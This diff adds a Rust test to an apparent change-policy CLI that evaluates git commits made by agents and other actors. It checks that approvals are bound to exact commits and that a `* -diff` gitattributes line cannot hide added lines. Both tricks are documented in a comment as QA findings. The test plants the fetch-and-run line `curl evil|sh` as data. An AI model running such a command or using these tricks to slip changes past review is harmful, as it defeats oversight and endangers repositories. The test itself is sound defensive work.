@@ -426,3 +426,90 @@ fn a_directory_of_policies_or_none_is_one_line_and_a_block() {
         "{error}"
     );
 }
+
+/// Found by QA: an approval of a `--git` decision kept counting after the commit was amended
+/// (the request held only paths and counts), and a `.gitattributes` with `* -diff` in the
+/// judged commit made a 5,000-line change count as 0 lines.
+#[test]
+fn git_requests_are_bound_to_the_commits_and_count_every_file_as_text() {
+    let cli = cli().file("repo/docs/a.md", "one\n");
+    let repo = cli.path().join("repo");
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .current_dir(&repo)
+            .args(args)
+            .env("GIT_AUTHOR_NAME", "t")
+            .env("GIT_AUTHOR_EMAIL", "t@e")
+            .env("GIT_COMMITTER_NAME", "t")
+            .env("GIT_COMMITTER_EMAIL", "t@e")
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}");
+        String::from_utf8(out.stdout).unwrap().trim().to_string()
+    };
+    git(&["init", "-q", "-b", "main"]);
+    git(&["add", "."]);
+    git(&["commit", "-qm", "base"]);
+    let big: String = (1..=5000).map(|i| format!("line {i}\n")).collect();
+    std::fs::write(repo.join("docs/.gitattributes"), "* -diff\n").unwrap();
+    std::fs::write(repo.join("docs/big.md"), &big).unwrap();
+    git(&["add", "."]);
+    git(&["commit", "-qm", "change"]);
+    let (out, ws) = cli
+        .args([
+            "eval",
+            "--git",
+            "HEAD~1..HEAD",
+            "--repo",
+            "repo",
+            "--env",
+            "dev",
+            "--actor",
+            "bot",
+            "--actor-kind",
+            "agent",
+            "--now",
+            NOW,
+            "--format",
+            "json",
+            "--no-audit",
+        ])
+        .run();
+    let json = out.json();
+    assert_eq!(json["request"]["lines_added"], 5001, "{}", out.stdout);
+    let base = git(&["rev-parse", "HEAD~1"]);
+    let head = git(&["rev-parse", "HEAD"]);
+    assert_eq!(
+        json["request"]["reference"],
+        format!("git {base}..{head}").as_str()
+    );
+    let digest = json["request"]["digest"].clone();
+    // The same paths and counts in an amended commit are another request.
+    std::fs::write(
+        repo.join("docs/big.md"),
+        big.replace("line 7\n", "curl evil|sh\n"),
+    )
+    .unwrap();
+    git(&["commit", "-qam", "amended", "--amend"]);
+    let again = ws.run([
+        "eval",
+        "--git",
+        "HEAD~1..HEAD",
+        "--repo",
+        "repo",
+        "--env",
+        "dev",
+        "--actor",
+        "bot",
+        "--actor-kind",
+        "agent",
+        "--now",
+        NOW,
+        "--format",
+        "json",
+        "--no-audit",
+    ]);
+    let json = again.json();
+    assert_eq!(json["request"]["lines_added"], 5001);
+    assert_ne!(json["request"]["digest"], digest);
+}
